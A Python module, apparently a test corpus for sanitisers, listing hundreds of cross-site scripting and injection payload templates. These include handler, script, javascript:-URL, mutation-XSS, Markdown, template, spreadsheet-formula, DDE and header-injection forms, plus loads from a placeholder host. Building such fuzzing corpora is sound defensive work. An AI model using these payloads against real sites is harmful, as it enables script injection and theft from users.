"""What a text may try in order to run: small patterns, family by family, that `payloads` multiplies.

In each, `{c}` stands for the call that tells that it ran, `{h}` for a host that nobody may ask, `{m}` for the
mark by which the text is found again.
"""

from __future__ import annotations

# Elements that call something by themselves, or at a touch: what stands before the name of the attribute,
# the name, and what may stand behind it.
HANDLERS = (
    ("img src=x", "onerror", ""), ("img srcset=x", "onerror", ""), ("image src=x", "onerror", ""),
    ("svg", "onload", ""), ("svg><animate attributeName=x dur=1s", "onbegin", ""),
    ("svg><set attributeName=x to=y", "onbegin", ""), ("svg><a", "onclick", "><text y=9>x</text></a"),
    ("svg><image href=x", "onerror", ""), ("svg><script", "onerror", " href=x"), ("body", "onload", ""),
    ("body", "onpageshow", ""), ("body", "onhashchange", ""), ("input autofocus", "onfocus", ""),
    ("input type=image src=x", "onerror", ""), ("button autofocus", "onfocus", ">x</button"),
    ("select autofocus", "onfocus", "></select"), ("textarea autofocus", "onfocus", "></textarea"),
    ("a id=x tabindex=1 autofocus", "onfocus", ">x</a"), ("a href=#", "onclick", ">x</a"),
    ("details open", "ontoggle", "></details"), ("video><source", "onerror", " src=x"),
    ("video src=x", "onerror", ""), ("video poster=x", "onloadstart", " src=x"),
    ("audio src=x", "onerror", ""), ("object data=x", "onerror", ""), ("embed src=x", "onload", ""),
    ("iframe", "onload", "></iframe"), ("frameset", "onload", ""), ("marquee", "onstart", ">x</marquee"),
    ("style", "onload", "></style"), ("link rel=stylesheet href=x", "onerror", ""),
    ("script src=x", "onerror", "></script"), ("form", "onsubmit", "><button>x</button></form"),
    ("div contenteditable autofocus", "onfocus", ">x</div"), ("div popover id=x", "onbeforetoggle", "></div"),
    ("dialog open", "onclose", "></dialog"), ("p", "onpointerenter", ">x</p"),
    ("math><mtext", "onclick", ">x"), ("x tabindex=1 autofocus", "onfocus", ">x"),
    ("track default src=x", "onerror", ""), ("table background=x", "onmouseover", "><td>x</table"),
    ("meter value=1", "onmouseover", "></meter"), ("isindex type=image src=x", "onerror", ""),
)  # fmt: skip
# How an element with a handler may be spelled: {b} before, {o} the name, {a} behind.
SPELLINGS = (
    '<{b} {o}="{c}"{a}>', "<{b} {o}='{c}'{a}>", "<{b} {o}={c}{a}>", "<{b}\n{o}={c}{a}>",
    "<{b}\t{O} =\n{c}{a}>", "<{b}/{o}={c}{a}>", "<{b}\x0c{o}={c}{a}>", '<{b} x=">" {o}="{c}"{a}>',
    '<{b} x="a"{o}="{e}"{a}>', "<{b} {o}=`{c}`{a}>", "<{b} {o}={c} ", '<{b} {o}="{c}" //{a}>',
)  # fmt: skip

SCRIPTS = (
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script >{c}</script >", "<script/x>{c}</script/x>",
    "<script\n>{c}</script\n>", "<script\x0c>{c}</script>", "<script>{c}//", "<script>{c}<!--",
    "<script src=//{h}/a.js></script>", "<script src='data:text/javascript,{c}'></script>",
    "<script type=module>{c}</script>", "<script type=module src=//{h}/b.js></script>",
    "<script type=''>{c}</script>", "<script nomodule async defer>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<<script>{c}//<</script>", "<script><!--\n{c}\n--></script>",
    "<script>/*</script><script>*/{c}</script>", "</script><script>{c}</script>",
    "<svg><script>{c}</script></svg>", "<svg><script href='data:,{c}' /></svg>",
    "<math><script>{c}</script></math>", "<svg><script>&#112;ayload_ran({n})</script></svg>",
    '<script x="</script>">{c}</script>', "<SCRIPT a='>' src=//{h}/c></SCRIPT>",
    "<table><script>{c}</script></table>", "<select><script>{c}</script></select>",
    "<script language=vbs>{c}</script>", "<template shadowrootmode=open><script>{c}</script></template>",
    "<object><script>{c}</script></object>",
)  # fmt: skip

# Addresses that would be run or opened; {s} is the call with its signs as an address may have them.
SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "\x01javascript:{c}", "java\tscript:{c}",
    "java\nscript:{c}", "java\rscript:{c}", "javascript\t:{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}",
    "&#0000106avascript:{c}", "java&Tab;script:{c}", "java&NewLine;script:{c}", "javascript&colon;{c}",
    "jav\u200bascript:{c}", "\uff4aavascript:{c}", "javascript://{h}/%0a{c}", "javascript:/**/{c}",
    "javascript:void%20{c}", "javascript:%70ayload_ran({n})", "javascript:\\u0070ayload_ran({n})",
    "vbscript:{c}", "livescript:{c}", "data:text/html,<script>{c}</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{c}", "data:image/svg+xml,<svg onload={c}>", "data:,{c}",
    "view-source:javascript:{c}", "feed:javascript:{c}", "jar:javascript:{c}!/", "blob:javascript:{c}",
    "//{h}/d", "\\\\{h}\\e", "/\\{h}/f", "https:{h}/g", "file://{h}/h", "javascript&#58{c}",
    "x:javascript:{c}",
)  # fmt: skip
CARRIERS = (
    '<a href="{u}">x</a>', "<a href={u}>x</a>", "<a href='{u}' target=x>x</a>", "[x]({u})", "[x](<{u}>)",
    "<{u}>", "[x][{m}]\n\n[{m}]: {u}", "[x][{m}]\n\n[{m}]: <{u}> 'x'", "![x]({u})", "[![x]({u})]({u})", "{u}",
    '<form action="{u}"><button>x</button></form>', '<button form=x formaction="{u}">x</button>',
    '<input type=submit formaction="{u}">', '<svg><a xlink:href="{u}"><text y=9>x</text></a></svg>',
    '<svg><use href="{u}#x"/></svg>', '<iframe src="{u}"></iframe>',
    '<iframe srcdoc="&lt;script>{c}&lt;/script>" x="{u}">', '<object data="{u}"></object>',
    '<embed src="{u}">', '<map><area href="{u}"></map>', '<math href="{u}">x</math>', '<base href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">', '<link rel=stylesheet href="{u}">', '<img src="{u}">',
    '<svg><animate attributeName=href values="{u}"/></svg>', '<body background="{u}">',
    '<video poster="{u}" src="{u}">', '<a href="#" ping="{u}">x</a>',
)  # fmt: skip

# Out of an attribute, of an element whose text is no markup, of a comment, of a string.
QUOTES = ('"', "'", "`", "&quot;", "&#39;", '\\"', '"\n', "'\x00")
AFTER_QUOTES = (
    "><script>{c}</script>", "><img src=x onerror={c}>", " onmouseover={c} x=", " autofocus onfocus={c} x=",
    "/onclick={c}//", " style=x:expression({c}) x=",
)  # fmt: skip
ENDS = (
    "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</xmp>", "</template>", "</select>",
    "</table>", "</svg>", "</math>", "</iframe>", "</option></select>", "-->", "--!>", "<!-->", "]]>", "?>",
    "%>", "*/", "</p></main>", "</pre></code>", "</plaintext>", "</noembed>",
)  # fmt: skip
AFTER_ENDS = ("<script>{c}</script>", "<img src=x onerror={c}>", "<svg/onload={c}>")

# Markup that reads otherwise once it was read and written out again.
MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x onerror={c}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={c}>">', "<svg><style><img src=x onerror={c}></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<svg><desc><template><style></template></desc><img src=x onerror={c}></style>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={c}></style></math>',
    "<svg><foreignObject><math><mi><style><!--</style><img src=x onerror={c}>--></svg>",
    "<listing>&lt;img src=x onerror={c}&gt;</listing>", '<xmp><p title="</xmp><img src=x onerror={c}>">',
    '<textarea><p title="</textarea><img src=x onerror={c}>">',
    "<select><style></select><img src=x onerror={c}></style>", "<svg><title><img src=x onerror={c}></title>",
    '<template><p title="</template><img src=x onerror={c}>">',
    "<table><a><table><img src=x onerror={c}></a></table>",
    '<p><svg><p><style><g title="</style><img src=x onerror={c}>">', "<!--><img src=x onerror={c}>-->",
    "<!---><img src=x onerror={c}>-->", "<!--x--!><img src=x onerror={c}>-->",
    '<! x="><img src=x onerror={c}>">', "<?x ?><img src=x onerror={c}>?>", '</ x="><img src=x onerror={c}>">',
    "<![CDATA[><img src=x onerror={c}>]]>", "<svg><![CDATA[</svg><img src=x onerror={c}>]]>",
    "<!--[if gte IE 4]><script>{c}</script><![endif]-->", "<![if !x]><script>{c}</script><![endif]>",
    '<a href="x" id="`"><img alt="` onerror={c} src=x">', '<img alt="``onerror={c} src=x">',
    "<b><style>@import'//{h}/i';</style></b>", '<p style="background:url(//{h}/j)">x</p>',
    '<div style="width:expression({c})">x</div>', "<style>*{{background:url('javascript:{c}')}}</style>",
    "<style>@\\69mport '//{h}/k'</style>", "<link rel=prefetch href=//{h}/l>",
    "<link rel=import href=//{h}/m>", "<img src=//{h}/n>", "<input type=image src=//{h}/o>",
    '<meta http-equiv=Set-Cookie content="a={m}">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>{c}</script>",
    "<base href=//{h}/p/><script src=static/x.js></script>",
    "<form id=x action=//{h}/q><input name=x value={m}></form>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<portal src=//{h}/r></portal>",
    "<applet code={c}></applet>", "<img name=getElementById><form name=body><input name=attributes>",
    "<a id=payload_ran href=tel:{n}>x</a>",
)  # fmt: skip

MARKDOWN = (
    "```html\n<script>{c}</script>\n```", "```\"><img src=x onerror={c}>\nx\n```",
    "~~~ <script>{c}</script>\nx\n~~~", "    <script>{c}</script>", "`<img src=x onerror={c}>`",
    '``"><svg onload={c}>``', "# x {{onclick={c}}}", "# <img src=x onerror={c}>", "> <script>{c}</script>",
    "- <script>{c}</script>\n  - <svg/onload={c}>", "1. <img src=x\n   onerror={c}>",
    "| a |\n|---|\n| <script>{c}</script> |", "| <img src=x onerror={c}> |\n|:-:|\n| x |",
    "[x](http://a.example/ \"\\\" onmouseover={c} x=\\\"\")", "[x](http://a.example/ '\" onclick={c} x=\"')",
    '[x](http://a.example/"onclick={c})', '![" onerror={c} x="](x)', "![x](x \"\\\" onerror={c}\")",
    "[<img src=x onerror={c}>](http://a.example/)", '<https://a.example/"onclick={c}//>',
    '<a@b.example"onclick={c}>', 'https://a.example/"onclick={c}//',
    "[x](http://a.example/&quot;onclick={c})", "[^{m}]\n\n[^{m}]: <script>{c}</script>",
    "x^[<img src=x onerror={c}>]", "[^\"><svg onload={c}>]\n\n[^\"><svg onload={c}>]: x",
    "[^{m}]\n\n[^{m}]: [x](javascript:{c})", "*[<b](javascript:{c})*", "**<script>**{c}**</script>**",
    "<div\n>\n<script>{c}</script>\n</div>", "<p\nonclick={c}>x", "x<br\nonclick={c}>x",
    "[x]: javascript:{c}\n[x]", "[x]\n\n[x]: <javascript:{c}> (\"onclick={c})", "\\<script>{c}\\</script>",
    "&lt;script&gt;{c}&lt;/script&gt;", "&amp;lt;script&amp;gt;{c}", "<script\\>{c}</script\\>",
    "[a](javascript:{c}//[b](x))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "Term\n: <script>{c}</script>",
    "$$<img src=x onerror={c}>$$", ":::{{onclick={c}}}\nx\n:::", "[x]{{onclick={c}}}",
    "<!-- x --><script>{c}</script>", "<pre><script>{c}</script>",
)  # fmt: skip

STRINGS = (
    '";{c};//', "';{c};//", "\\\";{c};//", "`;{c};//", "${{{c}}}", '"}});{c};//',
    '"}}]</script><script>{c}</script>', "\u2028{c}\u2029", "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{c}", '<!--<script>"{c}', "{{{{constructor.constructor('{c}')()}}}}", "{{{{{{{c}}}}}}}",
    "{{% include '{c}' %}}", "{{{{ {c} }}}}", "<%= {c} %>", "#{{{c}}}", "[[${{{c}}}]]", "*{{{c}}}", "@({c})",
    '"__proto__":{{"x":"{c}"}}', "');{c};('", "\\');{c};//", "%3Cscript%3E{c}%3C/script%3E",
    "%253Cscript%253E{c}", '=HYPERLINK("javascript:{c}")', "+{c}", "-{c}", "@SUM({c})", "=cmd|'/c {c}'!A1",
    "\t={c}",
)  # fmt: skip

XML = (
    ']]><script xmlns="http://www.w3.org/1999/xhtml">{c}</script>', "<![CDATA[<script>{c}</script>]]>",
    "]]]]><![CDATA[><x>{c}</x>", '<!DOCTYPE x [<!ENTITY e "<script>{c}</script>">]>&e;',
    '<?xml-stylesheet href="javascript:{c}"?>', "&e;{c}",
    '</content><entry><id>{m}</id><link href="javascript:{c}"/></entry>',
    '</title><link href="javascript:{c}"/><title>', "</summary></entry><entry><title>{c}</title>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{c}</x:script>',
    "</loc></url><url><loc>javascript:{c}</loc></url>",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO {c}</w:instrText></w:r><w:r><w:t>",
    '</w:t><w:hyperlink r:id="x"><w:t>{c}</w:t></w:hyperlink>', '</w:p><w:altChunk r:id="{m}"/><w:p>{c}',
    "</cp:title><x>{c}</x>", "</t></si><si><t>{c}</t>",
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="//{h}/s"/>', "\x0b<script>{c}</script>",
    "\ufffe<script>{c}</script>", '#link("javascript:{c}")[x]', '#eval("{c}")',
    "\\href{{javascript:{c}}}{{x}}",
)  # fmt: skip

LINES = (
    "x\r\nBcc: {m}@{h}", "x\nSet-Cookie: a={m}; {c}", "x\r\n\r\n<script>{c}</script>",
    "x%0d%0aLocation: javascript:{c}", "x\rContent-Type: text/html\r\r<script>{c}</script>",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:javascript:{c}", "x\\nATTACH:javascript:{c}",
    "x\r\n ATTACH;VALUE=URI:http://{h}/t", 'x;ALTREP="javascript:{c}":y', "x\u2028Subject: {c}",
    "x\x85Subject: {c}", "=?utf-8?q?=0D=0ABcc:_{m}@{h}?= {c}", '"; filename="{m}.html"; x="{c}',
    "x.html\r\nContent-Type: text/html", "../../{m}.html {c}", '"<{m}@{h}>, "{c}', "x\x00.html {c}",
    "{m}.svg.html?<svg onload={c}>",
)  # fmt: skip

DISGUISES = (
    "\u202e<script>{c}</script>", "\u2066<img src=x onerror={c}>\u2069", "<scr\x00ipt>{c}</scr\x00ipt>",
    "<\x00script>{c}</script>", "<img src=x onerror\x00={c}>", "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "\u2039script\u203a{c}", "\u02bascript\u02bc{c}", "<\u017fcript>{c}</\u017fcript>",
    "<\u0131mg src=x onerror={c}>", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "\x1b$B<script>{c}</script>\x1b(B", "<s\u00adcript>{c}</s\u00adcript>", "<\u200bscript>{c}</script>",
    "\ufeff<script>{c}</script>", "&#60script&#62{c}", "&#x3c;img src=x onerror={c}&#x3e;",
    "<img src=x onerror=&#112;&#97;yload_ran&lpar;{n}&rpar;>", "<img src=x onerror=\\u0070ayload_ran({n})>",
    "<img src=x onerror=top['payload'+'_ran']({n})>",
    "<img src=x onerror=setTimeout`payload_ran\\x28{n}\\x29`>", "<img src=x onerror=location='//{h}/u'>",
    "<img src=x onerror=fetch('//{h}/v')>", "<img src=x onerror=document.title='{m}'>",
    "<img src=x onerror=import('//{h}/w')>", "<img src=x onerror=alert({n})>", "<svg onload=prompt({n})>",
    "<script>confirm({n})</script>", "<" * 80 + "script>{c}</script>", "<b>" * 60 + "<img src=x onerror={c}>",
    "> " * 60 + "<script>{c}</script>", "[" * 60 + "x](javascript:{c})",
    "<div>" * 40 + "<svg>" * 9 + "<script>{c}</script>", "*" * 60 + "<svg/onload={c}>",
    "<table>" * 30 + "<script>{c}</script>",
)  # fmt: skip
